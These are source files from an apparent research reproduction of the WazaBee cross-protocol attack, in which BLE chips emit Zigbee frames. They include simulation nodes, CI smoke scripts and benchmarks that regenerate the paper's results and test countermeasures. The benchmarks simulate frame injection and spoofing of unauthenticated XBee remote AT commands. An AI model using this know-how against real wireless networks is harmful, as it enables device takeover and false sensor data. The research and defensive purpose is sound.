    """The coordinator: acknowledges reports and keeps the display log."""

    def __init__(
        self,
        medium: RfMedium,
        address: Address,
        name: str = "xbee-coordinator",
        position: Tuple[float, float] = (0.0, 0.0),
        rng: Optional[np.random.Generator] = None,
        security: Optional[SecurityContext] = None,
        battery: Optional[Battery] = None,
    ):
        super().__init__(
            medium,
            address,
            name,
            position=position,
            is_coordinator=True,
            rng=rng,
            security=security,
            battery=battery,
        )
        self.display: List[DisplayEntry] = []

    def handle_application(self, frame: MacFrame, app) -> None:
        if isinstance(app, SensorReading) and frame.source is not None:
            self.display.append(
                DisplayEntry(
                    time=self.scheduler.now,
                    counter=app.counter,
                    value=app.value,
                    source=frame.source.address,
                )
            )
