"""XBee-style Zigbee application layer.

The paper's target network (§VI-A): two XBee (Digi's 802.15.4 product line)
transceivers with PAN id 0x1234 on channel 14 — an end-device "sensor"
(0x0063) pushing a reading every two seconds and a coordinator (0x0042)
acknowledging and plotting the values.

Modelled here:

* :mod:`repro.zigbee.xbee` — the XBee application payloads, including the
  *remote AT command* service whose lack of authentication enables the
  denial-of-service of Vaccari et al. that Scenario B replays;
* :mod:`repro.zigbee.network` — the sensor and coordinator node behaviours.
"""

from repro.zigbee.xbee import (
    AtCommand,
    RemoteAtCommand,
    SensorReading,
    XBEE_DEFAULTS,
)
from repro.zigbee.network import (
    CoordinatorNode,
    RouterNode,
    SensorNode,
    XBeeNode,
)
from repro.zigbee.fleet import (
    Fleet,
    FleetNodeSpec,
    FleetSpec,
    PanSpec,
    build_fleet,
    make_fleet,
)

__all__ = [
    "AtCommand",
    "RemoteAtCommand",
    "SensorReading",
    "XBEE_DEFAULTS",
    "XBeeNode",
    "SensorNode",
    "RouterNode",
    "CoordinatorNode",
    "Fleet",
    "FleetNodeSpec",
    "FleetSpec",
    "PanSpec",
    "build_fleet",
    "make_fleet",
]
