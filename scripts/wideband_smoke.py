#!/usr/bin/env python3
"""CI smoke for the wideband 16-channel receiver.

Exercises the operational wideband path end to end on a reduced sweep
(3 channels × 10 frames):

* the real CLI — ``python -m repro table3 --wideband`` as a subprocess,
  checking it renders a Table III and exits 0;
* the differential contract — the spectral production path, the
  time-domain subsystem path (compose_band + polyphase channelizer) and
  the per-channel sequential reference must classify every
  (chip, primitive, channel) cell identically, because all three consume
  the same per-channel random streams.

Run locally:  PYTHONPATH=src python scripts/wideband_smoke.py
"""

import os
import subprocess
import sys

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "src"))

CHANNELS = (11, 18, 26)
FRAMES = 10


def fail(message: str) -> None:
    print(f"FAIL: {message}", file=sys.stderr)
    sys.exit(1)


def cells_of(result):
    return {
        (chip, primitive, channel): (
            cell.valid,
            cell.corrupted,
            cell.lost,
        )
        for (chip, primitive), rows in result.cells.items()
        for channel, cell in rows.items()
    }


def main() -> None:
    env = dict(os.environ)
    env.setdefault("PYTHONPATH", "src")
    cli = subprocess.run(
        [
            sys.executable,
            "-m",
            "repro",
            "table3",
            "--wideband",
            "--channels",
            *[str(c) for c in CHANNELS],
            "--frames",
            str(FRAMES),
        ],
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
    )
    if cli.returncode != 0:
        sys.stderr.write(cli.stderr)
        fail(f"CLI wideband sweep exited {cli.returncode}")
    if "wideband sweep" not in cli.stdout or "Channel" not in cli.stdout:
        fail("CLI wideband sweep did not render a Table III")
    print(f"CLI sweep OK ({len(cli.stdout.splitlines())} output lines)")

    from repro.experiments.table3 import run_table3_wideband

    results = {
        mode: run_table3_wideband(
            frames=FRAMES, channels=CHANNELS, mode=mode
        )
        for mode in ("spectral", "time", "sequential")
    }
    reference = cells_of(results["sequential"])
    if len(reference) != 2 * 2 * len(CHANNELS):
        fail(f"expected {2 * 2 * len(CHANNELS)} cells, got {len(reference)}")
    for key, (valid, corrupted, lost) in reference.items():
        if valid + corrupted + lost != FRAMES:
            fail(f"cell {key} does not account for every frame")
    for mode in ("spectral", "time"):
        mismatches = [
            (key, cells_of(results[mode])[key], reference[key])
            for key in reference
            if cells_of(results[mode])[key] != reference[key]
        ]
        if mismatches:
            for key, got, want in mismatches:
                print(
                    f"  {mode} {key}: {got} != sequential {want}",
                    file=sys.stderr,
                )
            fail(f"{mode} path diverged from the sequential reference")
        print(f"{mode} == sequential across all {len(reference)} cells")
    print("wideband smoke OK")


if __name__ == "__main__":
    main()
