#!/usr/bin/env python3
"""CI smoke for the fleet campaign: the real CLI, a real 50-node fleet.

Runs ``python -m repro fleet`` as a subprocess — the exact operator
invocation — on a reduced 50-node / 4-PAN depletion campaign over the
sharded medium, with tracing and metrics enabled, then asserts the three
things a broken fleet stack cannot fake:

* exit code 0 (the CLI itself returns non-zero on an unbalanced ledger);
* the report declares the delivery ledger ``balanced``;
* the trace file carries ``fleet.sample`` JSONL records for every
  sampling instant, battery fraction monotonically non-increasing.

Run locally:  PYTHONPATH=src python scripts/fleet_smoke.py
"""

import json
import os
import subprocess
import sys
import tempfile

NODES = 50
PANS = 4
DURATION_S = 1.5


def fail(message: str) -> None:
    print(f"FAIL: {message}", file=sys.stderr)
    sys.exit(1)


def main() -> None:
    workdir = tempfile.mkdtemp(prefix="wazabee-fleet-")
    trace_path = os.path.join(workdir, "fleet_trace.jsonl")
    env = dict(os.environ)
    env.setdefault("PYTHONPATH", "src")
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "repro",
            "fleet",
            "--nodes",
            str(NODES),
            "--pans",
            str(PANS),
            "--duration",
            str(DURATION_S),
            "--flood-rate",
            "100",
            "--medium",
            "sharded",
            "--trace",
            trace_path,
            "--metrics",
        ],
        env=env,
        capture_output=True,
        text=True,
    )
    sys.stdout.write(result.stdout)
    sys.stderr.write(result.stderr)
    if result.returncode != 0:
        fail(f"repro fleet exited {result.returncode}")
    if "balanced" not in result.stdout or "UNBALANCED" in result.stdout:
        fail("report does not declare a balanced delivery ledger")

    samples = []
    with open(trace_path, "r", encoding="utf-8") as handle:
        for line in handle:
            record = json.loads(line)
            if record.get("event") == "fleet.sample":
                samples.append(record)
    if len(samples) < 2:
        fail(f"expected >=2 fleet.sample trace records, got {len(samples)}")
    fractions = [s["battery_fraction"] for s in samples]
    if any(b > a + 1e-9 for a, b in zip(fractions, fractions[1:])):
        fail(f"battery fraction increased over time: {fractions}")
    print(
        f"OK: {NODES} nodes / {PANS} PANs, {len(samples)} fleet samples, "
        f"battery {fractions[0]:.2f} -> {fractions[-1]:.2f}, ledger balanced"
    )


if __name__ == "__main__":
    main()
