#!/usr/bin/env python3
"""CI smoke for the streaming sniffer service.

Exercises the operational path no pytest fixture covers: a *real*
backgrounded ``python -m repro serve`` process, two concurrent Unix-socket
subscribers — one JSONL, one PCAP, the JSONL one deliberately slow — at
least 100 streamed frames, strict validation of the PCAP capture with the
repo's own parser, and a SIGTERM delivered mid-stream that must drain
cleanly: exit code 0, a ``bye`` on every stream, and a complete spool.

Run locally:  PYTHONPATH=src python scripts/serve_smoke.py
"""

import os
import signal
import struct
import subprocess
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "src"))

from repro.serve import SpoolReader, parse_pcap, subscribe  # noqa: E402

MIN_FRAMES = 100
LOG_PATH = "serve_smoke.log"


def fail(message: str) -> None:
    print(f"FAIL: {message}", file=sys.stderr)
    sys.exit(1)


def main() -> None:
    workdir = tempfile.mkdtemp(prefix="wazabee-serve-")
    socket_path = os.path.join(workdir, "serve.sock")
    spool_path = os.path.join(workdir, "serve.spool")
    env = dict(os.environ)
    env.setdefault("PYTHONPATH", "src")
    log = open(LOG_PATH, "w")
    server = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "repro",
            "serve",
            "--socket",
            socket_path,
            "--rate",
            "120",
            "--spool",
            spool_path,
            "--metrics",
        ],
        env=env,
        stdout=log,
        stderr=subprocess.STDOUT,
    )
    try:
        deadline = time.monotonic() + 30.0
        while not os.path.exists(socket_path):
            if time.monotonic() > deadline or server.poll() is not None:
                fail("service never opened its socket")
            time.sleep(0.05)
        print(f"service up on {socket_path} (pid {server.pid})")

        # Subscriber 1: JSONL, deliberately slow (sleeps between reads).
        slow_frames = []

        def slow_reader():
            with subscribe(
                socket_path, fmt="jsonl", name="ci-slow", timeout_s=30.0
            ) as client:
                for record in client.records():
                    if record["type"] == "frame":
                        slow_frames.append(record)
                        time.sleep(0.02)  # ~3x slower than production
                    if record["type"] == "bye":
                        slow_frames.append(record)
                        return

        slow_thread = threading.Thread(target=slow_reader, daemon=True)
        slow_thread.start()

        # Subscriber 2: PCAP, read record-by-record on this thread until
        # MIN_FRAMES have streamed (the stream is endless until SIGTERM,
        # so bulk "read until idle" would never return here).
        pcap_client = subscribe(
            socket_path, fmt="pcap", name="ci-pcap", timeout_s=30.0
        )
        capture = bytearray(pcap_client.read_exact(24))  # global header
        packets_seen = 0
        while packets_seen < MIN_FRAMES:
            record_header = pcap_client.read_exact(16)
            incl_len = struct.unpack("<IIII", record_header)[2]
            capture += record_header + pcap_client.read_exact(incl_len)
            packets_seen += 1
        print(f"pcap subscriber captured {packets_seen} frames")

        # SIGTERM mid-stream: the drain contract.  Everything still
        # queued arrives, then the socket closes.
        server.send_signal(signal.SIGTERM)
        pcap_client._sock.settimeout(2.0)
        capture.extend(pcap_client.read_all(idle_rounds=1))
        pcap_client.close()
        code = server.wait(timeout=60.0)
        if code != 0:
            fail(f"service exited {code} after SIGTERM")
        print("service drained and exited 0")

        slow_thread.join(timeout=30.0)
        if slow_thread.is_alive():
            fail("slow subscriber never received its bye")

        # Validate the final capture strictly: the drain must never cut
        # a pcap record in half.
        header, packets = parse_pcap(bytes(capture))
        if header["network"] != 195:
            fail(f"wrong link type {header['network']}")
        if len(packets) < MIN_FRAMES:
            fail(f"final capture has only {len(packets)} frames")
        if not all(len(p["psdu"]) >= 5 for p in packets):
            fail("capture contains an impossible runt frame")
        print(
            f"pcap valid: DLT {header['network']}, "
            f"{len(packets)} packets, snaplen {header['snaplen']}"
        )

        # The slow subscriber's stream ended with an orderly bye.
        if not slow_frames or slow_frames[-1].get("type") != "bye":
            fail("slow subscriber's stream did not end with a bye record")
        print(
            f"slow subscriber: {len(slow_frames) - 1} frames, "
            f"bye reason {slow_frames[-1]['reason']!r}"
        )

        # The spool survived the SIGTERM complete and loadable.
        reader = SpoolReader(spool_path)
        if not reader.complete:
            fail("spool missing its clean-shutdown footer")
        if len(reader.frame_records()) < MIN_FRAMES:
            fail("spool recorded fewer frames than were streamed")
        print(
            f"spool complete: {len(reader.frame_records())} frames "
            f"(meta {reader.meta})"
        )
        print("serve smoke OK")
    finally:
        if server.poll() is None:
            server.kill()
        log.close()


if __name__ == "__main__":
    main()
