"""Table II — Zigbee and BLE common channels."""

from repro.core.channel_map import COMMON_CHANNELS, reachable_zigbee_channels
from repro.experiments.reports import render_table2



PAPER_TABLE2 = {
    12: (3, 2410e6),
    14: (8, 2420e6),
    16: (12, 2430e6),
    18: (17, 2440e6),
    20: (22, 2450e6),
    22: (27, 2460e6),
    24: (32, 2470e6),
    26: (39, 2480e6),
}


def test_table2_regeneration(benchmark, report):
    report("Table II: Zigbee and BLE common channels", render_table2())
    assert COMMON_CHANNELS == PAPER_TABLE2

    def rebuild():
        from repro.core import channel_map

        return channel_map._build_common()

    rebuilt = benchmark(rebuild)
    assert rebuilt == PAPER_TABLE2


def test_table2_reachability(benchmark, report):
    grid_locked = benchmark(reachable_zigbee_channels, False)
    report(
        "Channel reachability",
        f"arbitrary tuning: {reachable_zigbee_channels(True)}\n"
        f"BLE grid only:    {grid_locked}",
    )
    assert grid_locked == tuple(sorted(PAPER_TABLE2))
    assert len(reachable_zigbee_channels(True)) == 16
