"""Algorithm 1 — PN sequence → MSK conversion and the correspondence table."""

import numpy as np

from repro.core.encoding import wazabee_access_address
from repro.core.tables import CorrespondenceTable, default_table, pn_to_msk
from repro.dsp.msk import chips_to_transitions
from repro.phy.ieee802154 import PN_SEQUENCES
from repro.experiments.reports import render_correspondence



def test_alg1_regeneration(benchmark, report):
    report("Algorithm 1: PN -> MSK correspondence table", render_correspondence())

    table = benchmark(CorrespondenceTable.build)
    assert table.matrix.shape == (16, 31)
    # All rows distinct, min pairwise distance leaves decoding margin.
    distances = [
        int(np.count_nonzero(table.matrix[i] != table.matrix[j]))
        for i in range(16)
        for j in range(i + 1, 16)
    ]
    assert min(distances) >= 8


def test_alg1_physics_cross_validation(benchmark, report):
    """Algorithm 1 vs the waveform-exact stream conversion: identical except
    (possibly) the first bit, whose phase state Algorithm 1 assumes."""

    def compare_all():
        mismatches = {}
        for symbol, seq in enumerate(PN_SEQUENCES):
            alg = pn_to_msk(seq)
            physics = chips_to_transitions(seq, start_index=0)
            diff = np.nonzero(alg != physics)[0]
            if diff.size:
                mismatches[symbol] = diff.tolist()
        return mismatches

    mismatches = benchmark(compare_all)
    report(
        "Algorithm 1 vs physics-exact conversion",
        f"symbols with a differing first bit: {sorted(mismatches)}\n"
        "(exactly the eight sequences whose first chip is 0 — the paper's "
        "fixed initial state assumes chip -1 context)",
    )
    assert all(diff == [0] for diff in mismatches.values())
    assert sorted(mismatches) == [
        s for s in range(16) if PN_SEQUENCES[s][0] == 0
    ]


def test_alg1_decode_throughput(benchmark):
    """Hamming decode speed over a full max-size frame's worth of blocks."""
    table = default_table()
    rng = np.random.default_rng(1)
    blocks = [
        table.msk_sequence(rng.integers(0, 16))
        ^ (rng.random(31) < 0.05).astype(np.uint8)
        for _ in range(266)
    ]

    def decode_all():
        return [table.decode_block(b)[0] for b in blocks]

    symbols = benchmark(decode_all)
    assert len(symbols) == 266
