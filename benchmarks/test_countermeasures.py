"""§VII counter-measures, evaluated against the actual attacks.

Two defences from the paper, each run against the Scenario B attacker:

* **Link-layer cryptography** ("most of the 802.15.4-based protocols
  provide [it и] should be systematically used"): with AES-CCM* enabled the
  spoofed remote-AT command and the fake readings fail authentication —
  but, as the paper warns, the attacker "can still perform denial of
  service attacks" by other means, and passive sniffing of ciphertext
  frames still works.
* **Protocol-agnostic spectrum monitoring** (the RadIoT-style IDS): a
  sentinel trained on the legitimate network flags the attacker's
  emissions as a power anomaly.
"""

import numpy as np

from repro.attacks.scenario_b import AttackPhase
from repro.experiments.scenarios import run_scenario_b

KEY = bytes(range(16))


def test_crypto_countermeasure_blocks_scenario_b(benchmark, report):
    def run_both():
        open_net = run_scenario_b(duration_s=40.0, seed=5)
        secured = run_scenario_b(duration_s=40.0, seed=5, security_key=KEY)
        return open_net, secured

    open_net, secured = benchmark.pedantic(run_both, rounds=1, iterations=1)
    report(
        "Counter-measure: AES-CCM* link-layer security vs Scenario B",
        "open network:    sensor moved to channel "
        f"{open_net.sensor_channel_after}, {open_net.spoofed_entries} spoofed "
        f"readings displayed\n"
        "secured network: sensor stays on channel "
        f"{secured.sensor_channel_after}, {secured.spoofed_entries} spoofed "
        f"readings displayed, {secured.legitimate_entries} legitimate",
    )

    # Open network: the attack works end to end.
    assert open_net.final_phase is AttackPhase.DONE
    assert open_net.sensor_channel_after == 26
    assert open_net.spoofed_entries > 0
    # Secured network: the injected remote AT command and the spoofed
    # readings are dropped at the MAC security check.
    assert secured.sensor_channel_after == 14
    assert secured.spoofed_entries == 0
    assert secured.legitimate_entries > 10
    # ...but the attack still *found* the network (scanning/sniffing are
    # not prevented by payload encryption).
    assert secured.network_channel == 14


def test_ids_countermeasure_flags_attacker(benchmark, report):
    """Spectrum monitoring catches the pivot's emissions as anomalies."""
    from repro.chips import Nrf52832
    from repro.core.firmware import WazaBeeFirmware
    from repro.dot15d4.channels import ZIGBEE_CHANNELS, channel_frequency_hz
    from repro.dot15d4.frames import Address, build_data
    from repro.experiments.environment import build_testbed
    from repro.experiments.scenarios import build_zigbee_network
    from repro.ids import AnomalyDetector, SpectrumSentinel

    def run_ids():
        testbed = build_testbed(seed=3)
        network = build_zigbee_network(testbed, report_interval_s=0.5)
        network.start()
        bands = [channel_frequency_hz(ch) for ch in ZIGBEE_CHANNELS]
        sentinel = SpectrumSentinel(testbed.medium, bands, position=(1.5, 1.0))
        sentinel.start()
        detector = AnomalyDetector()
        # Train on 20 s of legitimate traffic.
        testbed.scheduler.run(20.0)
        detector.train(sentinel.observations, duration_s=20.0)
        # Attack window: an attacker much closer to the probe injects.
        sentinel.clear()
        start = testbed.scheduler.now
        chip = Nrf52832(
            testbed.medium, position=(1.0, 1.0), rng=testbed.device_rng(40)
        )
        firmware = WazaBeeFirmware(chip, testbed.scheduler)
        frame = build_data(
            Address(pan_id=0x1234, address=0x0063),
            Address(pan_id=0x1234, address=0x0042),
            b"\x10\x00\x00\x63\x00",
            sequence_number=1,
            ack_request=False,
        )
        for i in range(8):
            testbed.scheduler.schedule(
                0.5 * i, lambda i=i: firmware.send_frame(frame, channel=14)
            )
        testbed.scheduler.run(5.0)
        window = sentinel.observations_since(start)
        return detector.score(window, duration_s=testbed.scheduler.now - start)

    alerts = benchmark.pedantic(run_ids, rounds=1, iterations=1)
    report(
        "Counter-measure: spectrum IDS vs WazaBee injection",
        "\n".join(
            f"[{a.kind}] {a.detail} (severity {a.severity:.1f})" for a in alerts
        )
        or "(no alerts)",
    )
    # The attacker sits at a different range than the legitimate sensor, so
    # its frames stand out of the band's learned power distribution.
    assert any(a.kind in ("power", "power-outliers", "rate") for a in alerts)
