"""Shared helpers for the benchmark/reproduction harness.

Every bench regenerates one artefact of the paper (a table or a figure),
prints the regenerated rows/series so they can be compared side-by-side with
the paper, and asserts the *shape* claims (who wins, where the dips are).

Frame counts for the heavy Table III run can be tuned via the
``REPRO_TABLE3_FRAMES`` environment variable (default 100, the paper's
count; set it lower for quick runs).
"""

import os

import pytest


def table3_frames() -> int:
    return int(os.environ.get("REPRO_TABLE3_FRAMES", "100"))


@pytest.fixture()
def report():
    """Print a titled block that survives pytest's capture (-s not needed
    thanks to the terminal summary hook below)."""
    blocks = []

    def _report(title: str, body: str) -> None:
        blocks.append((title, body))
        print(f"\n=== {title} ===\n{body}")

    yield _report
