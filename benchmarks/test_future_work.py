"""§VIII future work + the §IV-D symmetric-pivot note, quantified.

* A modulation-similarity metric ("Defining a metric to measure such
  similarities could be useful to anticipate ... which protocols could be
  diverted"): the cross-demodulation BER matrix over six 2.4 GHz schemes.
* The reverse pivot (Zigbee chip → BLE): bounded by the DSSS constraint to
  a ~70% bit match, far short of what a BLE CRC accepts.
"""

import numpy as np

from repro.core.similarity import (
    REFERENCE_SCHEMES,
    similarity_matrix,
    viable_pivots,
)
from repro.experiments.symmetric import attempt_symmetric_pivot


def _short(name: str) -> str:
    return name.split(" (")[0]


def test_similarity_matrix(benchmark, report):
    matrix = benchmark.pedantic(
        similarity_matrix,
        kwargs={"num_bits": 2048, "snr_db": 15.0},
        rounds=1,
        iterations=1,
    )
    names = [s.name for s in REFERENCE_SCHEMES]
    width = max(len(_short(n)) for n in names) + 2
    lines = [
        " " * width + "".join(f"{_short(n)[:12]:>14}" for n in names)
    ]
    for tx in names:
        cells = "".join(f"{matrix[(tx, rx)]:>14.3f}" for rx in names)
        lines.append(f"{_short(tx):<{width}}{cells}")
    pivots = viable_pivots(matrix)
    lines.append("")
    lines.extend(
        f"viable pivot: {_short(tx)} -> {_short(rx)} (BER {ber:.4f})"
        for tx, rx, ber in pivots
    )
    report("Future work: modulation similarity matrix (cross-demod BER)", "\n".join(lines))

    ble2m = REFERENCE_SCHEMES[0].name
    ble1m = REFERENCE_SCHEMES[1].name
    oqpsk = REFERENCE_SCHEMES[2].name
    msk = REFERENCE_SCHEMES[3].name
    # The WazaBee cluster: BLE 2M <-> O-QPSK <-> MSK, both directions.
    for a in (ble2m, oqpsk, msk):
        for b in (ble2m, oqpsk, msk):
            assert matrix[(a, b)] < 0.05, (a, b, matrix[(a, b)])
    # Rate-mismatched pairs are non-starters.
    assert matrix[(ble1m, oqpsk)] >= 0.4
    assert matrix[(oqpsk, ble1m)] >= 0.4
    # Diagonal is clean for every scheme.
    for scheme in REFERENCE_SCHEMES:
        assert matrix[(scheme.name, scheme.name)] < 0.05


def test_symmetric_pivot_bounded(benchmark, report):
    result = benchmark.pedantic(attempt_symmetric_pivot, rounds=1, iterations=1)
    report(
        "Symmetric pivot (Zigbee chip -> BLE): best DSSS-reachable emission",
        f"target on-air bits:   {result.target_bits}\n"
        f"best achievable match: {result.matched_bits} "
        f"({result.match_fraction:.1%})\n"
        f"BLE sync-word fired:   {result.sync_found}\n"
        f"BLE CRC accepted:      {result.crc_ok}",
    )
    # Better than chance (the codes are not adversarial)...
    assert result.match_fraction > 0.55
    # ...but nowhere near a valid packet: the DSSS constraint bites, as
    # §IV-D argues.
    assert result.match_fraction < 0.85
    assert not result.crc_ok
