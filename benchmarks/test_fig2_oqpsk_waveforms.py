"""Figure 2 — temporal representation of the O-QPSK half-sine signal."""

import numpy as np

from repro.experiments.figures import fig2_oqpsk_waveforms


def ascii_trace(t, y, width=64, label=""):
    """Tiny ASCII rendering of a trace (the bench's 'figure')."""
    idx = np.linspace(0, len(y) - 1, width).astype(int)
    chars = []
    for value in y[idx]:
        if value > 0.33:
            chars.append("~")
        elif value < -0.33:
            chars.append("_")
        else:
            chars.append("-")
    return f"{label:>10} |{''.join(chars)}|"


def test_fig2_regeneration(benchmark, report):
    data = benchmark(fig2_oqpsk_waveforms)

    traces = "\n".join(
        ascii_trace(data["t"], data[key], label=key)
        for key in ("m", "i", "q", "i_carrier", "q_carrier", "s")
    )
    interior = data["envelope"][2 * 64 : -2 * 64]
    report(
        "Figure 2: O-QPSK with half-sine pulse shaping (ASCII rendering)",
        traces
        + f"\nenvelope (interior): min={interior.min():.4f} "
        f"max={interior.max():.4f}",
    )

    # The figure's claims:
    # 1. I carries even chips, Q odd chips, Q offset by Tc.
    spc = 64
    assert abs(data["i"][spc]) > 0.9  # I pulse peaks at Tc
    assert abs(data["q"][spc]) < 0.05  # Q pulse just starting
    assert abs(data["q"][2 * spc]) > 0.9  # Q peaks at 2 Tc
    # 2. s(t) = I cos - Q sin (equation 2).
    assert np.allclose(data["s"], data["i_carrier"] - data["q_carrier"])
    # 3. Constant envelope away from burst edges.
    assert interior.min() > 0.99 and interior.max() < 1.01


def test_fig2_envelope_vs_plain_qpsk(benchmark, report):
    """Why half-sine + offset matters: the envelope stays constant, unlike
    rectangular-pulse QPSK which collapses through the origin."""

    def envelope_stats():
        data = fig2_oqpsk_waveforms(
            chips=(1, 0, 0, 1, 1, 0, 1, 0, 0, 1), samples_per_chip=32
        )
        interior = data["envelope"][64:-64]
        return float(interior.min()), float(interior.max())

    low, high = benchmark(envelope_stats)
    report(
        "Figure 2 companion: envelope excursion",
        f"min={low:.4f} max={high:.4f} (rectangular QPSK would hit 0)",
    )
    assert low > 0.95
