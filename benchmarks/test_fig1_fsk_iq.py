"""Figure 1 — I/Q-plane representation of a 2-FSK modulation."""

import numpy as np

from repro.experiments.figures import fig1_fsk_iq


def test_fig1_regeneration(benchmark, report):
    data = benchmark(fig1_fsk_iq)

    d_one = data["phase_one"][-1] - data["phase_one"][0]
    d_zero = data["phase_zero"][-1] - data["phase_zero"][0]
    radius = float(np.mean(np.hypot(data["i_one"], data["q_one"])))
    report(
        "Figure 1: 2-FSK phase rotation in the I/Q plane",
        f"bit 1: phase advance {d_one:+.4f} rad  (counter-clockwise, f up)\n"
        f"bit 0: phase advance {d_zero:+.4f} rad  (clockwise, f down)\n"
        f"trajectory radius: {radius:.4f} (constant envelope)",
    )

    # The figure's two arrows: opposite rotation senses, equal magnitude.
    assert d_one > 0 > d_zero
    assert abs(d_one + d_zero) < 1e-9
    # At the MSK index the rotation is a quarter turn per symbol.
    assert d_one == (np.pi / 2) or abs(d_one - np.pi / 2) < 0.1
    assert radius == 1.0 or abs(radius - 1.0) < 1e-9


def test_fig1_index_sweep(benchmark, report):
    """The rotation magnitude scales with the modulation index — the knob
    that places BLE 'close enough' to MSK."""

    def sweep():
        out = {}
        for h in (0.45, 0.5, 0.55):
            data = fig1_fsk_iq(modulation_index=h)
            out[h] = float(data["phase_one"][-1] - data["phase_one"][0])
        return out

    advances = benchmark(sweep)
    report(
        "Figure 1 companion: phase advance vs modulation index",
        "\n".join(
            f"h={h}: {adv:+.4f} rad ({adv / (np.pi / 2):.3f} x pi/2)"
            for h, adv in advances.items()
        ),
    )
    assert advances[0.45] < advances[0.5] < advances[0.55]
    assert abs(advances[0.5] - np.pi / 2) < 0.05
