"""Figure 3 — I/Q constellation of O-QPSK with half-sine pulse shaping."""

import numpy as np

from repro.experiments.figures import fig3_constellation


def test_fig3_regeneration(benchmark, report):
    data = benchmark(fig3_constellation)

    steps = np.asarray(data["phase_steps"]) / (np.pi / 2)
    states = {
        label: f"({point.real:+.2f}, {point.imag:+.2f})"
        for label, point in data["states"].items()
    }
    report(
        "Figure 3: O-QPSK constellation and transitions",
        "states: "
        + ", ".join(f"{k}->{v}" for k, v in states.items())
        + "\nphase steps (pi/2 units): "
        + np.array2string(np.round(steps, 3)),
    )

    # Four constellation points on the unit circle, one per quadrant.
    quadrants = {
        (np.sign(p.real), np.sign(p.imag)) for p in data["states"].values()
    }
    assert len(quadrants) == 4
    # Every chip-period transition is exactly +-pi/2 (the property
    # Algorithm 1 encodes as 1/0).
    assert np.allclose(np.abs(steps), 1.0, atol=0.05)


def test_fig3_transition_rule(benchmark, report):
    """The figure's edge labels: the rotation direction for each chip is
    exactly what the chips_to_transitions relation predicts."""
    from repro.dsp.msk import chips_to_transitions

    chips = (1, 1, 0, 1, 0, 0, 1, 0, 1, 1)

    def measure():
        data = fig3_constellation(chips=chips)
        steps = np.asarray(data["phase_steps"])
        return (steps > 0).astype(int)

    measured = benchmark(measure)
    # measured[j] is the rotation during chip period j+1 = transition t_{j+1},
    # the first element of the chips_to_transitions output.
    predicted = chips_to_transitions(np.array(chips, dtype=np.uint8))[
        : measured.size
    ]
    report(
        "Figure 3 companion: measured vs predicted rotation directions",
        f"measured:  {measured.tolist()}\npredicted: {predicted.tolist()}",
    )
    assert np.array_equal(measured, predicted)
