"""Receiver-architecture ablation (DESIGN.md §5, "sample-level" rationale).

The default 802.15.4 receiver model demodulates through the MSK
equivalence (discriminator + Hamming despreading).  A sceptic could ask
whether WazaBee only works against that architecture.  This bench decodes
the same diverted-BLE captures with the textbook noncoherent matched-filter
bank and sweeps SNR: both accept the emission, with the correlator holding
on slightly longer — the compatibility is a property of the waveform.
"""

import numpy as np

from repro.core.encoding import frame_to_msk_bits
from repro.core.rx import decode_payload_bits
from repro.dot15d4.frames import Address, build_data
from repro.dsp.coherent import CorrelatorBank
from repro.dsp.gfsk import FskDemodulator, FskModulator, GfskConfig
from repro.dsp.impairments import awgn
from repro.dsp.msk import chips_to_transitions
from repro.phy.ieee802154 import Ppdu


def _frame():
    return build_data(
        Address(pan_id=0x1234, address=1),
        Address(pan_id=0x1234, address=2),
        b"ablate-rx",
        sequence_number=1,
    )


def _discriminator_ok(sig, ppdu) -> bool:
    demod = FskDemodulator(GfskConfig(8, 0.5, None), 2e6)
    chips = ppdu.to_chips()
    sync = chips_to_transitions(chips[:64], start_index=0)
    disc = demod.discriminate(sig)
    found = demod.find_sync(disc, sync, power=np.abs(sig.samples[:-1]) ** 2)
    if found is None:
        return False
    start = found.start + sync.size * 8
    count = min(chips.size, demod.available_bits(disc, start))
    bits = demod.decide_bits(
        disc, start, count, dc=found.dc_offset / demod.frequency_deviation
    )
    # The sync template covered two preamble symbols, so the stream that
    # follows is symbol-aligned and the WazaBee stride decoder applies.
    decoded = decode_payload_bits(bits)
    return decoded is not None and decoded.psdu == ppdu.psdu


def _correlator_ok(bank, sig, ppdu) -> bool:
    start = bank.acquire(sig)
    if start is None:
        return False
    decoded = bank.decode(sig, start, max_symbols=ppdu.num_symbols)
    sfd = Ppdu.find_sfd(decoded.symbols)
    if sfd is None:
        return False
    parsed = Ppdu.parse_symbols(decoded.symbols[sfd:])
    return parsed is not None and parsed.psdu == ppdu.psdu


def test_ablation_receiver_architectures(benchmark, report):
    frame = _frame()
    ppdu = Ppdu(frame.to_bytes())
    clean = FskModulator(GfskConfig(8, 0.5, 0.5), 2e6).modulate(
        frame_to_msk_bits(frame.to_bytes())
    )
    bank = CorrelatorBank(8)
    snrs = (12.0, 8.0, 4.0, 0.0, -2.0)
    trials = 10

    def sweep():
        results = {}
        for snr in snrs:
            disc_ok = corr_ok = 0
            for trial in range(trials):
                rng = np.random.default_rng(100 * trial + int(snr * 10) + 1000)
                sig = awgn(clean, snr, rng)
                disc_ok += int(_discriminator_ok(sig, ppdu))
                corr_ok += int(_correlator_ok(bank, sig, ppdu))
            results[snr] = (disc_ok / trials, corr_ok / trials)
        return results

    results = benchmark.pedantic(sweep, rounds=1, iterations=1)
    report(
        "Ablation: discriminator vs matched-filter 802.15.4 receivers "
        "decoding the diverted BLE emission",
        "\n".join(
            f"SNR {snr:>5.1f} dB: discriminator {d:.0%}, correlator {c:.0%}"
            for snr, (d, c) in results.items()
        ),
    )
    # Both architectures accept the pivot at workable SNR.
    assert results[12.0][0] == 1.0 and results[12.0][1] == 1.0
    assert results[8.0][1] == 1.0
    # The matched filter degrades no earlier than the discriminator.
    for snr in snrs:
        assert results[snr][1] >= results[snr][0] - 0.2
