"""Ablations over the receive-side design choices.

* Hamming-distance despreading robustness (§IV-D's justification).
* The ESB 2 Mbit/s fallback's cost (§VI-C).
* Whitening strategies: disable vs pre-invert (§IV-D).
"""

from repro.experiments.ablations import (
    esb_fallback_comparison,
    hamming_threshold_sweep,
    whitening_strategy_check,
)


def test_ablation_hamming_robustness(benchmark, report):
    accuracy = benchmark.pedantic(
        hamming_threshold_sweep,
        kwargs={
            "chip_error_rates": (0.0, 0.05, 0.1, 0.2, 0.3),
            "trials": 3000,
        },
        rounds=1,
        iterations=1,
    )
    report(
